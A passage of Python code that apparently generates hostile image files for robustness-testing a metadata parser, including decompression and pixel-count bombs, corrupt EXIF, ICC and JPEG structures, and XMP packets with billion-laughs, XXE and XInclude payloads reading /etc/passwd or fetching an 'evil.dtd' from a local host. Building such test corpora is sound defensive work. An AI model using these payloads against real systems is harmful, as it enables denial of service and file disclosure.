                              f"{name}: IFD0 -> ExifIFD -> IFD0 cycle through next pointers")


def ifd_past_eof(scale: Scale) -> Iterator[HostileFile]:
    """IFD, sub-IFD, value and thumbnail offsets that point past the end of the file."""
    for name, data, base in _exif_carriers(scale):
        bo = tiff_byte_order(data, base)
        far = (len(data) - base + 16, 0x7FFFFFF0, 0xFFFFFFFF)
        fields = [f for f in tiff_fields(data, base)
                  if f.kind in ("ifd0_offset", "next_ifd", "sub_ifd")
                  or (f.kind == "value" and f.tag in (0x0201, 0x0111, 0x927C, 0x010F,
                                                      0x0002, 0x02BC, 0x8773))]
        limit = _per_seed(name, scale.structured * 3)
        made = 0
        for f in fields:
            for v in far:
                if made >= limit:
                    break
                made += 1
                yield HostileFile("ifd_past_eof",
                                  f"{_stem(name)}_eof{made}.{_ext(name)}",
                                  _finish(put(data, f.pos, struct.pack(bo + "I", v))),
                                  f"{name}: {f.kind} (tag 0x{f.tag:04X}) -> offset {v}")
        thumb_len = [f for f in tiff_fields(data, base) if f.kind == "value" and f.tag == 0x0202]
        if thumb_len:
            yield HostileFile("ifd_past_eof", f"{_stem(name)}_thumblen.{_ext(name)}",
                              _finish(put(data, thumb_len[0].pos, struct.pack(bo + "I",
                                                                               0x7FFFFFFF))),
                              f"{name}: thumbnail length 2 GiB")


def _many_entries_tiff(n: int, bo: str = "<") -> bytes:
    """A TIFF whose IFD0 has ``n`` entries (up to 65535) besides a valid 8x8 image."""
    arr = _picture(8, 8, 3)
    base: list[Entry] = [(0x0100, 3, 8), (0x0101, 3, 8), (0x0102, 3, [8, 8, 8]),
                         (0x0103, 3, 1), (0x0106, 3, 2), (0x0111, 4, None), (0x0115, 3, 3),
                         (0x0116, 3, 8), (0x0117, 4, 192)]
    filler = [(0xC000 + i % 0x3FFF, 3, i & 0xFFFF) for i in range(max(0, n - len(base)))]
    return build_tiff(base + filler, strips=arr.tobytes(), bo=bo)


def tag_counts(scale: Scale) -> Iterator[HostileFile]:
    """Absurd tag counts: entry counts of 0 and 65535, value counts of 2^31 and 2^32-1, and
    IFDs that really hold tens of thousands of entries."""
    for name, data, base in _exif_carriers(scale):
        bo = tiff_byte_order(data, base)
        fields = tiff_fields(data, base)
        edits = [(f"entry count of IFD@{f.ifd_start} = {v}", f.pos, struct.pack(bo + "H", v))
                 for f in fields if f.kind == "entry_count" for v in (0xFFFF, 0x8000)]
        edits += [(f"count of tag 0x{f.tag:04X} = {v}", f.pos, struct.pack(bo + "I", v))
                  for f in fields if f.kind == "count" and f.tag in (
                      0x010F, 0x0110, 0x927C, 0x9286, 0x0002, 0x0111, 0x0102, 0x02BC, 0x8773,
                      0x83BB, 0x0201) for v in (0x7FFFFFFF, 0xFFFFFFFF, 0x40000000)]
        rng = _rng("tag_counts", name)
        n = _per_seed(name, scale.structured * 3)
        for i in sorted(rng.choice(len(edits), size=min(n, len(edits)), replace=False).tolist()):
            what, pos, raw = edits[i]
            yield HostileFile("tag_counts", f"{_stem(name)}_count{i}.{_ext(name)}",
                              _finish(put(data, pos, raw)), f"{name}: {what}")
    many = min(65535, scale.many * 3)
    yield HostileFile("tag_counts", "many_entries.tif", _many_entries_tiff(many),
                      f"TIFF whose IFD0 really holds {many} entries")
    yield HostileFile("tag_counts", "max_entries_be.tif", _many_entries_tiff(65535, ">"),
                      "big-endian TIFF whose IFD0 holds 65535 entries (the format's maximum)")
    exif = b"Exif\x00\x00" + _many_entries_tiff(min(65535, scale.many))
    png = seed_files(scale.name)["seed.png"]
    yield HostileFile("tag_counts", "png_exif_many_entries.png",
                      png_insert(png, png_chunk(b"eXIf", exif[6:])),
                      f"PNG with a second eXIf chunk of {min(65535, scale.many)} entries")
    tiny = Image.new("RGB", (16, 16), (9, 9, 9))
    big_exif = b"Exif\x00\x00" + _many_entries_tiff(5400)  # 5400*12 bytes fits in APP1
    yield HostileFile("tag_counts", "jpeg_exif_5400_entries.jpg",
                      jpeg_insert(_encode(np.asarray(tiny), "JPEG"),
                                  jpeg_segment(0xE1, big_exif)),
                      "JPEG whose EXIF IFD0 holds 5400 entries (over the reader's 5000 cap)")


def _set_png_size(data: bytes, w: int, h: int) -> bytes:
    return png_fix_crc(put(data, 16, struct.pack(">II", w, h)), 8)


def _set_jpeg_size(data: bytes, w: int, h: int) -> bytes:
    for marker, off, _ in jpeg_segments(data):
        if 0xC0 <= marker <= 0xCF and marker not in (0xC4, 0xC8, 0xCC):
            data = put(data, off + 5, struct.pack(">HH", h, w))
    return data


def _set_ispe(data: bytes, w: int, h: int) -> bytes:
    pos = data.find(b"ispe")
    while pos >= 0:
        data = put(data, pos + 8, struct.pack(">II", w, h))
        pos = data.find(b"ispe", pos + 4)
    return data


def pixel_bombs(scale: Scale) -> Iterator[HostileFile]:
    """Headers that claim enormous pixel counts (over Pillow's limit, in its warning band,
    and at the formats' maxima); the data stays tiny."""
    s = seed_files(scale.name)
    warn = int((1.5 * (Image.MAX_IMAGE_PIXELS or 89_478_485)) ** 0.5)  # warning band
    for w, h in ((65500, 65500), (warn, warn), (65535, 1), (1, 65535), (0, 0)):
        yield HostileFile("pixel_bomb", f"jpeg_{w}x{h}.jpg", _set_jpeg_size(s["seed.jpg"], w, h),
                          f"JPEG SOF claims {w}x{h}")
    yield HostileFile("pixel_bomb", "jpeg_progressive_65500.jpg",
                      _set_jpeg_size(s["seed_progressive.jpg"], 65500, 65500),
                      "progressive JPEG claiming 65500x65500")
    for w, h in ((100_000, 100_000), (0x7FFFFFFF, 1), (1, 0x7FFFFFFF), (warn, warn),
                 (0xFFFFFFFF, 0xFFFFFFFF)):
        yield HostileFile("pixel_bomb", f"png_{w}x{h}.png", _set_png_size(s["seed.png"], w, h),
                          f"PNG IHDR claims {w}x{h}")
    gif = s["seed.gif"]
    out = put(gif, 6, struct.pack("<HH", 65535, 65535))
    first_img = out.find(b"\x2c", 13 + (3 << ((gif[10] & 7) + 1)))
    yield HostileFile("pixel_bomb", "gif_screen_65535.gif", out,
                      "GIF logical screen 65535x65535")
    yield HostileFile("pixel_bomb", "gif_frame_65535.gif",
                      put(out, first_img + 5, struct.pack("<HH", 65535, 65535)),
                      "GIF screen and first frame 65535x65535")
    tif = s["seed.tif"]
    fields = [f for f in tiff_fields(tif, 0) if f.kind == "value"]
    for w, h in ((100_000, 100_000), (65535, 65535), (warn, warn)):
        out = tif
        for f in fields:
            if f.tag in (0x0100, 0x0101):  # as LONG values (type field 6 bytes before)
                out = put(out, f.pos - 6, struct.pack("<HII", 4, 1,
                                                      w if f.tag == 0x0100 else h))
        yield HostileFile("pixel_bomb", f"tiff_{w}x{h}.tif", out, f"TIFF claims {w}x{h}")
    long_dims = build_tiff([(0x0100, 4, 0x7FFFFFFF), (0x0101, 4, 0x7FFFFFFF), (0x0102, 3, 8),
                            (0x0103, 3, 1), (0x0106, 3, 1), (0x0111, 4, None),
                            (0x0116, 4, 1), (0x0117, 4, 64)], strips=bytes(64))
    yield HostileFile("pixel_bomb", "tiff_long_2g.tif", long_dims,
                      "TIFF with LONG width and height of 2^31-1")
    webp = s["seed.webp"]
    pos = webp.find(b"VP8X")
    if pos >= 0:
        for v in (16383, 0xFFFFFF):
            yield HostileFile("pixel_bomb", f"webp_canvas_{v}.webp",
                              put(webp, pos + 12, struct.pack("<I", v)[:3] * 2),
                              f"WebP VP8X canvas {v + 1}x{v + 1}")
    pos = webp.find(b"VP8 ")
    if pos >= 0:
        yield HostileFile("pixel_bomb", "webp_vp8_16383.webp",
                          put(webp, pos + 14, struct.pack("<HH", 0x3FFF, 0x3FFF)),
                          "WebP VP8 frame header 16383x16383")
    bmp = s["seed.bmp"]
    yield HostileFile("pixel_bomb", "bmp_100000.bmp",
                      put(bmp, 18, struct.pack("<ii", 100_000, -100_000)),
                      "BMP 100000 x -100000 (top-down)")
    for name in ("seed.heic", "seed.avif"):
        if name in s:
            for w, h in ((65535, 65535), (0x7FFFFFFF, 2), (0, 0)):
                yield HostileFile("pixel_bomb", f"{_stem(name)}_ispe_{w}x{h}.{_ext(name)}",
                                  _set_ispe(s[name], w, h), f"{name}: ispe box claims {w}x{h}")


def zlib_bombs(scale: Scale) -> Iterator[HostileFile]:
    """Small files that inflate enormously: IDAT past the image, legal-size all-zero images,
    zTXt / iTXt / iCCP / TIFF-deflate streams of ``bomb_mb`` MiB of zeros."""
    n = scale.bomb_mb << 20
    z = zeros_deflate(n)
    yield HostileFile("zlib_bomb", "idat_overflow.png", png_raw(16, 16, idat=z),
                      f"16x16 PNG whose IDAT inflates to {scale.bomb_mb} MiB")
    side = scale.legal_pixels
    row = side + 1
    yield HostileFile("zlib_bomb", f"idat_legal_{side}.png",
                      png_raw(side, side, idat=zeros_deflate(row * side)),
                      f"{side}x{side} grey PNG (under the pixel limit), all zeros")
    yield HostileFile("zlib_bomb", f"idat_legal_rgba16_{side}.png",
                      png_raw(side, side, color_type=6, bit_depth=16,
                              idat=zeros_deflate((side * 8 + 1) * side)),
                      f"{side}x{side} 16-bit RGBA PNG, all zeros")
    base = seed_files(scale.name)["seed.png"]
    for ctype, body, what in (
            (b"zTXt", b"Comment\x00\x00" + z, "zTXt Comment"),
            (b"zTXt", b"Raw profile type exif\x00\x00" + z, "zTXt 'Raw profile type exif'"),
            (b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + z, "compressed iTXt XMP"),
            (b"iTXt", b"parameters\x00\x01\x00\x00\x00" + z, "compressed iTXt parameters"),
            (b"iCCP", b"icc\x00\x00" + z, "iCCP profile")):
        yield HostileFile("zlib_bomb", f"{ctype.decode()}_{what.split()[-1].strip(chr(39))}.png",
                          png_insert(base, png_chunk(ctype, body)),
                          f"PNG {what} inflating to {scale.bomb_mb} MiB")
    many = b"".join(png_chunk(b"zTXt", f"k{i}".encode() + b"\x00\x00" + zeros_deflate(1 << 20))
                    for i in range(100))
    yield HostileFile("zlib_bomb", "ztxt_100x1mib.png", png_insert(base, many),
                      "PNG with 100 zTXt chunks of 1 MiB each (over Pillow's text budget)")
    arr = np.zeros((side, side), np.uint8)
    yield HostileFile("zlib_bomb", f"tiff_deflate_{side}.tif",
                      _encode(arr, "TIFF", compression="tiff_adobe_deflate"),
                      f"{side}x{side} deflate TIFF of zeros")


def text_chunks(scale: Scale) -> Iterator[HostileFile]:
    """Huge and malformed PNG text chunks (uncompressed, so no zlib guard applies)."""
    base = seed_files(scale.name)["seed.png"]
    big = 4 << 20 if scale.name == "small" else 32 << 20
    rng = _rng("text")
    items = [
        (b"tEXt", b"Comment\x00" + b"A" * big, f"tEXt of {big >> 20} MiB"),
        (b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + _xmp_wrap(b" " * (4 << 20)),
         "uncompressed iTXt XMP just over the 4 MiB packet cap"),
        (b"iTXt", b"parameters\x00\x00\x00\x00\x00" + bytes(rng.integers(128, 256, 1 << 20,
                                                                          dtype=np.uint8)),
         "iTXt whose text is invalid UTF-8"),
        (b"tEXt", b"K" * 200 + b"\x00value", "tEXt keyword of 200 bytes"),
        (b"tEXt", b"no separator at all" * 10, "tEXt without a NUL separator"),
        (b"iTXt", b"Title\x00\x01\x00", "iTXt claiming compression with no data"),
        (b"iTXt", b"Title\x00\x00\x00" + b"\xff" * 64 + b"\x00\x00text",
         "iTXt with a garbage language tag"),
        (b"zTXt", b"Comment\x00\x05" + zlib.compress(b"x" * 100), "zTXt with method 5"),
        (b"zTXt", b"Comment\x00\x00" + b"not zlib" * 100, "zTXt whose stream is not zlib"),
    ]
    for i, (ctype, body, what) in enumerate(items):
        yield HostileFile("text_chunks", f"text{i}_{ctype.decode()}.png",
                          png_insert(base, png_chunk(ctype, body)), f"PNG: {what}")
    many = b"".join(png_chunk(b"tEXt", b"Comment\x00" + b"B" * (1 << 20)) for _ in range(80))
    yield HostileFile("text_chunks", "text_80x1mib.png", png_insert(base, many),
                      "PNG with 80 tEXt chunks of 1 MiB (over Pillow's 64 MiB text budget)")


def _xmp_wrap(inner: bytes) -> bytes:
    return (b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
            b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' + inner
            + b"</rdf:RDF></x:xmpmeta>")


def _desc(attrs: bytes = b"", body: bytes = b"") -> bytes:
    return (b'<rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" '
            b'xmlns:dc="http://purl.org/dc/elements/1.1/" ' + attrs + b">" + body
            + b"</rdf:Description>")


def xmp_payloads(scale: Scale) -> dict[str, bytes]:
    """Hostile XMP packets, by name. The XML-entity ones mirror ``tests/test_xmp.py`` (which
    proves the parser refuses them); here they travel inside real files."""
    many, deep = scale.many, scale.many * 5
    lol = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
           + b"".join(f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i else "&lol;"}">'
                      .encode() for i in range(10))
           + b"]>")
    dtd = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    param = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % ext SYSTEM '
             b'"http://127.0.0.1:9/evil.dtd"> %ext;]>')
    quad = b'<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "' + b"a" * 50_000 + b'">]>'
    return {
        "billion_laughs": lol + _xmp_wrap(_desc(b'xmp:CreatorTool="&lol9;"')),
        "xxe_file": dtd + _xmp_wrap(_desc(b'xmp:CreatorTool="&xxe;"')),
        "xxe_parameter_dtd": param + _xmp_wrap(_desc(b'xmp:CreatorTool="x"')),
        "quadratic_blowup": quad + _xmp_wrap(_desc(body=b"<dc:title>" + b"&a;" * 5000
                                                   + b"</dc:title>")),
        "external_dtd_only": (b'<?xml version="1.0"?><!DOCTYPE x SYSTEM '
                              b'"http://127.0.0.1:9/x.dtd">' + _xmp_wrap(_desc())),
        "deep_nesting": _xmp_wrap(_desc(body=b"<dc:x>" + b"<a>" * deep + b"</a>" * deep
                                        + b"</dc:x>")),
        "deep_rdf_nesting": _xmp_wrap(_desc(body=b"<dc:y>" + (b"<rdf:Bag><rdf:li>" * 200)
                                            + b"v" + (b"</rdf:li></rdf:Bag>" * 200)
                                            + b"</dc:y>")),
        "many_attributes": _xmp_wrap(_desc(b" ".join(f'xmp:A{i}="{i}"'.encode()
                                                     for i in range(many)))),
        "many_list_items": _xmp_wrap(_desc(body=b"<dc:subject><rdf:Bag>"
                                           + b"<rdf:li>k</rdf:li>" * (many * 5)
                                           + b"</rdf:Bag></dc:subject>")),
        "many_descriptions": _xmp_wrap(_desc() * many),
        "huge_value": _xmp_wrap(_desc(b'xmp:CreatorTool="' + b"W" * (3 << 20) + b'"')),
        "unclosed_packets": b'<x:xmpmeta xmlns:x="adobe:ns:meta/">' * (many * 5),
        "unclosed_rdf": b"<rdf:RDF>" * (many * 5),
        "invalid_utf8": _xmp_wrap(_desc(b'xmp:CreatorTool="\xff\xfe\xc3\x28"')),
        "utf16_declared": (b'<?xml version="1.0" encoding="UTF-16"?>' + _xmp_wrap(_desc())),
        "nul_bytes": _xmp_wrap(_desc(b'xmp:CreatorTool="a\x00b"')),
        "processing_instructions": (b'<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>'
                                    + _xmp_wrap(_desc())),
        "xinclude": _xmp_wrap(_desc(body=b'<xi:include xmlns:xi="http://www.w3.org/2001/'
                                    b'XInclude" href="file:///etc/passwd" parse="text"/>')),
    }


def _with_xmp(carrier: str, data: bytes, packet: bytes) -> bytes | None:
    """``data`` (a seed) carrying ``packet`` as its XMP, in the format's own place."""
    if carrier == "jpeg":
        if len(packet) <= 65000:
            return jpeg_insert(data, jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00"
                                                  + packet), drop_app0=False)
        return jpeg_insert(data, _extended_xmp(packet), drop_app0=False)
    if carrier == "png":
        return png_insert(data, png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00"
                                          + packet))
    if carrier == "tiff":
        return build_tiff([(0x0100, 3, 8), (0x0101, 3, 8), (0x0102, 3, 8), (0x0103, 3, 1),
                           (0x0106, 3, 1), (0x0111, 4, None), (0x0116, 3, 8),
                           (0x0117, 4, 64), (0x02BC, 1, packet)], strips=bytes(range(64)))
    if carrier == "webp":
        body = data[12:] + b"XMP " + struct.pack("<I", len(packet)) + packet
        body += b"\x00" * (len(packet) & 1)
        out = b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body
        pos = out.find(b"VP8X")
        return put(out, pos + 8, bytes([out[pos + 8] | 0x04])) if pos >= 0 else out
    if carrier == "gif":  # XMP application extension
        ext = b"\x21\xff\x0bXMP DataXMP" + _gif_subblocks(packet) + b"\x00"
        return data[:-1] + ext + b"\x3b"
    return None


def _gif_subblocks(payload: bytes) -> bytes:
    return b"".join(bytes([len(payload[i:i + 255])]) + payload[i:i + 255]
                    for i in range(0, len(payload), 255))


def _extended_xmp(packet: bytes, *, guid: bytes = b"0" * 32, total: int | None = None,
                  chunk: int = 65000) -> bytes:
    """Adobe extended XMP: APP1 segments carrying GUID, full length and chunk offset."""
    total = len(packet) if total is None else total
    segs = []
    for off in range(0, len(packet), chunk):
        body = (b"http://ns.adobe.com/xmp/extension/\x00" + guid + struct.pack(">II", total, off)
                + packet[off:off + chunk])
        segs.append(jpeg_segment(0xE1, body))
    return b"".join(segs)


def xmp_hostile(scale: Scale) -> Iterator[HostileFile]:
    """Every hostile XMP packet inside JPEG, PNG, TIFF, WebP and GIF carriers (JPEG and PNG only
    at small scale), plus malformed extended-XMP layouts."""
    s = seed_files(scale.name)
    carriers = [("jpeg", "seed.jpg"), ("png", "seed.png")]
    if scale.name != "small":
        carriers += [("tiff", "seed.tif"), ("webp", "seed.webp"), ("gif", "seed.gif")]
    for pname, packet in xmp_payloads(scale).items():
        for carrier, seed in carriers:
            out = _with_xmp(carrier, s[seed], packet)
            if out is not None:
                yield HostileFile("xmp_hostile", f"{pname}.{_ext(seed)}", out,
                                  f"{carrier} carrying XMP: {pname}")
    jpg = s["seed.jpg"]
    packet = _xmp_wrap(_desc(b'xmp:CreatorTool="' + b"E" * 200_000 + b'"'))
    for what, segs in (
            ("ext_total_4g", _extended_xmp(packet, total=0xFFFFFFFF)),
            ("ext_offsets_overlap", _extended_xmp(packet, chunk=1000)[:40_000] * 40),
            ("ext_many_guids", b"".join(_extended_xmp(packet[:3000], guid=f"{i:032d}".encode())
                                        for i in range(min(scale.many, 3000)))),
            ("ext_short_header", jpeg_segment(0xE1, b"http://ns.adobe.com/xmp/extension/\x00"
                                              + b"G" * 10))):
        yield HostileFile("xmp_hostile", f"{what}.jpg", jpeg_insert(jpg, segs, drop_app0=False),
                          f"JPEG extended XMP: {what}")


def icc_garbage(scale: Scale) -> Iterator[HostileFile]:
    """ICC profiles that are garbage or lie about their size, tag count and tag offsets, in
    JPEG APP2 (including bad chunk numbering), PNG iCCP, TIFF and WebP."""
    good = parts().icc
    rng = _rng("icc")
    profiles = {
        "random": bytes(rng.integers(0, 256, 2000, dtype=np.uint8)),
        "size_4g": put(good, 0, b"\xff\xff\xff\xff"),
        "size_0": put(good, 0, bytes(4)),
        "tag_count_4g": put(good, 128, b"\xff\xff\xff\xff"),
        "tags_past_end": put(good, 132, good[132:136] + b"\x7f\xff\xff\xf0\x7f\xff\xff\xf0"),
        "truncated_header": good[:64],
        "wrong_magic": put(good, 36, b"XXXX"),
    }
    mluc = good.find(b"mluc")  # the v4 description: records count, then (lang, len, offset)
    if mluc >= 0:
        profiles["mluc_records_4g"] = put(good, mluc + 8, b"\xff" * 4)
        profiles["mluc_length_4g"] = put(good, mluc + 20, b"\xff" * 8)
    s = seed_files(scale.name)
    base_jpeg = _encode(_picture(64, 48, 5), "JPEG")
    for name, prof in profiles.items():
        yield HostileFile("icc_garbage", f"jpeg_{name}.jpg",
                          jpeg_insert(base_jpeg, jpeg_segment(0xE2, b"ICC_PROFILE\x00\x01\x01"
                                                              + prof)),
                          f"JPEG APP2 ICC profile: {name}")
        yield HostileFile("icc_garbage", f"png_{name}.png",
                          png_insert(_encode(_picture(32, 24, 5), "PNG"),
                                     png_chunk(b"iCCP", b"icc\x00\x00" + zlib.compress(prof))),
                          f"PNG iCCP: {name}")
        if scale.name != "small":
            yield HostileFile("icc_garbage", f"webp_{name}.webp",
                              _encode(_picture(32, 24, 5), "WEBP", icc_profile=prof),
                              f"WebP ICCP: {name}")
            yield HostileFile("icc_garbage", f"tiff_{name}.tif",
                              build_tiff([(0x0100, 3, 8), (0x0101, 3, 8), (0x0102, 3, 8),
                                          (0x0103, 3, 1), (0x0106, 3, 1), (0x0111, 4, None),
                                          (0x0116, 3, 8), (0x0117, 4, 64), (0x8773, 7, prof)],
                                         strips=bytes(64)),
                              f"TIFF ICC tag: {name}")
    for what, numbering in (("seq0", [(0, 1)]), ("seq_over_total", [(3, 2)]),
                            ("duplicate", [(1, 2), (1, 2)]), ("total0", [(1, 0)]),
                            ("missing_chunk", [(1, 255)]), ("255_chunks", [(i, 255) for i
                                                                           in range(1, 256)])):
        segs = b"".join(jpeg_segment(0xE2, b"ICC_PROFILE\x00" + bytes([seq, total])
                                     + good[:200]) for seq, total in numbering)
        yield HostileFile("icc_garbage", f"jpeg_chunks_{what}.jpg", jpeg_insert(base_jpeg, segs),
                          f"JPEG ICC_PROFILE chunk numbering: {what}")
    yield HostileFile("icc_garbage", "png_iccp_not_zlib.png",
                      png_insert(s["seed.png"], png_chunk(b"iCCP", b"icc\x00\x00garbage")),
                      "PNG iCCP whose stream is not zlib")


def _mpf(entries: list[tuple[int, int, int]], *, count: int | None = None,
         bo: str = ">") -> bytes:
    """An APP2 MPF body: MP index IFD with (attribute, size, offset) entries."""
    n = len(entries)
    ifd_at = 8
    data_at = ifd_at + 2 + 12 * 3 + 4
    mp_entries = b"".join(struct.pack(bo + "IIIHH", attr, size, off, 0, 0)
                          for attr, size, off in entries)
    ifd = struct.pack(bo + "H", 3)
    ifd += struct.pack(bo + "HHI", 0xB000, 7, 4) + b"0100"
    ifd += struct.pack(bo + "HHII", 0xB001, 4, 1, count if count is not None else n)
    ifd += struct.pack(bo + "HHII", 0xB002, 7, 16 * n, data_at)
    ifd += struct.pack(bo + "I", 0)
    head = (b"MM\x00*" if bo == ">" else b"II*\x00") + struct.pack(bo + "I", ifd_at)
    return b"MPF\x00" + head + ifd + mp_entries


def app_segments(scale: Scale) -> Iterator[HostileFile]:
    """JPEG header abuse: MPF with bad counts and offsets, APP segments whose lengths lie,
    thousands of APP/COM/DQT/DHT markers, runs of fill bytes and restart markers."""
    s = seed_files(scale.name)
    jpg = _encode(_picture(64, 48, 6), "JPEG")
    many = scale.many
    cases: list[tuple[str, bytes, str]] = []
    for what, body in (
            ("mpf_count_4g", _mpf([(0x030000, 1000, 0)], count=0xFFFFFFFF)),
            ("mpf_offset_past_eof", _mpf([(0x030000, 1000, 0), (0x010000, 5000, 0x7FFFFFF0)])),
            ("mpf_size_4g", _mpf([(0x030000, 0xFFFFFFFF, 0), (0, 0xFFFFFFFF, 16)])),
            ("mpf_self_offset", _mpf([(0x030000, 200, 0), (0, 200, 0)] * 40)),
            ("mpf_little_endian_garbage", _mpf([(0xFFFFFFFF, 1, 1)] * 300, bo="<")),
            ("mpf_truncated", _mpf([(0x030000, 10, 0)] * 3)[:30])):
        cases.append((what, jpeg_insert(jpg, jpeg_segment(0xE2, body)), f"APP2 MPF: {what}"))
    mpo = s["seed.mpo.jpg"]
    for marker, off, _ in jpeg_segments(mpo):
        if marker == 0xE2 and mpo[off + 4:off + 8] == b"MPF\x00":
            for v, what in ((0xFFFFFFFF, "mpo_entry_offset_4g"), (1, "mpo_entry_offset_1")):
                # the second MP entry's offset field (IFD after an 8-byte TIFF header)
                base = off + 8
                bo = tiff_byte_order(mpo, base)
                ifd = struct.unpack(bo + "I", mpo[base + 4:base + 8])[0]
                n = struct.unpack(bo + "H", mpo[base + ifd:base + ifd + 2])[0]
                table_off = None
                for i in range(n):
                    at = base + ifd + 2 + 12 * i
                    if struct.unpack(bo + "H", mpo[at:at + 2])[0] == 0xB002:
                        table_off = struct.unpack(bo + "I", mpo[at + 8:at + 12])[0]
                if table_off is not None:
                    pos = base + table_off + 16 + 8
                    cases.append((what, put(mpo, pos, struct.pack(bo + "I", v)),
                                  f"MPO second frame offset {v}"))
    for marker, what in ((0xE1, "app1"), (0xE2, "app2"), (0xEC, "app12"), (0xFE, "com")):
        cases.append((f"{what}_length_past_eof",
                      jpeg_insert(jpg, b"\xff" + bytes([marker]) + b"\xff\xf0" + b"x" * 100),
                      f"{what.upper()} length runs past the end"))
        cases.append((f"{what}_length_1", jpeg_insert(jpg, b"\xff" + bytes([marker]) + b"\x00\x01"),
                      f"{what.upper()} length 1 (less than its own length field)"))
    cases.append(("many_app_segments",
                  jpeg_insert(jpg, b"".join(jpeg_segment(0xE0 + i % 16, b"X" * (i % 40))
                                            for i in range(many))),
                  f"{many} APPn segments"))
    cases.append(("many_com_segments",
                  jpeg_insert(jpg, jpeg_segment(0xFE, b"<b>c</b>") * (many * 3)),
                  f"{many * 3} COM segments"))
    dqt = [seg for seg in jpeg_segments(jpg) if seg[0] == 0xDB][0]
    dqt_bytes = jpg[dqt[1]:dqt[1] + 2 + dqt[2]]
    cases.append(("many_dqt", jpeg_insert(jpg, dqt_bytes * many), f"{many} DQT segments"))
    dht = [seg for seg in jpeg_segments(jpg) if seg[0] == 0xC4][0]
    dht_bytes = jpg[dht[1]:dht[1] + 2 + dht[2]]
    cases.append(("many_dht", jpeg_insert(jpg, dht_bytes * many), f"{many} DHT segments"))
    sof = [seg for seg in jpeg_segments(jpg) if seg[0] == 0xC0][0]
    sof_bytes = jpg[sof[1]:sof[1] + 2 + sof[2]]
    cases.append(("many_sof", jpeg_insert(jpg, sof_bytes * 200), "200 SOF segments"))
    cases.append(("fill_bytes", jpeg_insert(jpg, b"\xff" * (many * 500)),
                  f"{many * 500} 0xFF fill bytes before the first marker"))
    cases.append(("many_exif_app1", jpeg_insert(jpg, jpeg_segment(0xE1, parts().exif) * 200),
                  "200 EXIF APP1 segments"))
    sos_end = [seg for seg in jpeg_segments(jpg) if seg[0] == 0xDA][0]
    cut = sos_end[1] + 2 + sos_end[2]
    cases.append(("rst_flood", jpg[:cut] + b"\xff\xd0" * (many * 50) + jpg[cut:],
                  f"{many * 50} restart markers at the start of the scan"))
    cases.append(("soi_repeat", b"\xff\xd8" * many + jpg[2:], f"{many} SOI markers"))
    cases.append(("eoi_first", jpg[:2] + b"\xff\xd9" + jpg[2:], "EOI right after SOI"))
    cases.append(("app13_irb_garbage",
                  jpeg_insert(jpg, jpeg_segment(0xED, b"Photoshop 3.0\x00" + b"8BIM\x04\x04"
                                                + b"\x00\x00\xff\xff\xff\xff" + b"\x1c" * 500)),
                  "APP13 Photoshop IRB whose resource length is 4 GiB"))
    cases.append(("app13_iim_lengths",
                  jpeg_insert(jpg, jpeg_segment(0xED, iptc_app13(b"x")[:-1]
                                                + b"\x1c\x02\x78\x80\x04\xff\xff\xff\xff")),
                  "APP13 IPTC dataset with an extended length of 4 GiB"))
    cases.append(("app14_adobe_bad", jpeg_insert(jpg, jpeg_segment(0xEE, b"Adobe\x00\x64\xff\xff"
                                                                   b"\xff\xff\x09")),
                  "APP14 Adobe with transform 9"))
    for what, data, note in cases:
        yield HostileFile("app_segments", f"{what}.jpg", data, f"JPEG: {note}")


def png_chunk_floods(scale: Scale) -> Iterator[HostileFile]:
    """PNGs with thousands of chunks, IDAT split into 1-byte chunks, chunks out of order, APNG
    control chunks that lie."""
    png = _encode(_picture(32, 24, 7), "PNG")
    many = scale.many
    chunks = png_chunks(png)
    idat = [(pos, length) for ctype, pos, length in chunks if ctype == b"IDAT"][0]
    stream = png[idat[0] + 8:idat[0] + 8 + idat[1]]
    head, tail = png[:idat[0]], png[idat[0] + 12 + idat[1]:]
    text = b"".join(png_chunk(b"tEXt", f"k{i}\x00v".encode()) for i in range(many * 2))
    unknown = b"".join(png_chunk(b"prVt", bytes([i & 0xFF]) * 8) for i in range(many * 2))
    one_byte = b"".join(png_chunk(b"IDAT", stream[i:i + 1]) for i in range(len(stream)))
    ihdr = png[8:8 + 25]
    actl = png_chunk(b"acTL", struct.pack(">II", 0x7FFFFFFF, 0))
    fctl = png_chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 100_000, 100_000, 0, 0, 1, 1, 0, 0))
    cases = [
        ("many_text", png_insert(png, text), f"{many * 2} tEXt chunks"),
        ("many_unknown", png_insert(png, unknown), f"{many * 2} unknown ancillary chunks"),
        ("idat_1byte", head + one_byte + tail, f"IDAT split into {len(stream)} 1-byte chunks"),
        ("many_empty_idat", head + png_chunk(b"IDAT", b"") * (many * 2)
         + png_chunk(b"IDAT", stream) + tail, f"{many * 2} empty IDAT chunks"),
        ("ihdr_twice", png[:8] + ihdr * 2 + png[33:], "two IHDR chunks"),
        ("no_ihdr", png[:8] + png[33:], "no IHDR"),
        ("no_iend", png[:-12], "no IEND"),
        ("idat_before_ihdr", png[:8] + png_chunk(b"IDAT", stream) + png[8:], "IDAT first"),
        ("iend_first", png[:8] + png_chunk(b"IEND", b"") + png[8:], "IEND before IHDR"),
        ("actl_2g_frames", png_insert(png, actl), "APNG acTL claiming 2^31-1 frames"),
        ("fctl_huge", png_insert(png, actl + fctl), "APNG fcTL frame of 100000x100000"),
        ("splt_huge", png_insert(png, png_chunk(b"sPLT", b"p\x00\x08" + b"\x01" * (6 << 20))),
         "6 MiB sPLT chunk"),
        ("plte_in_grey", png_insert(png, png_chunk(b"PLTE", b"\x00" * 768)), "PLTE in RGB"),
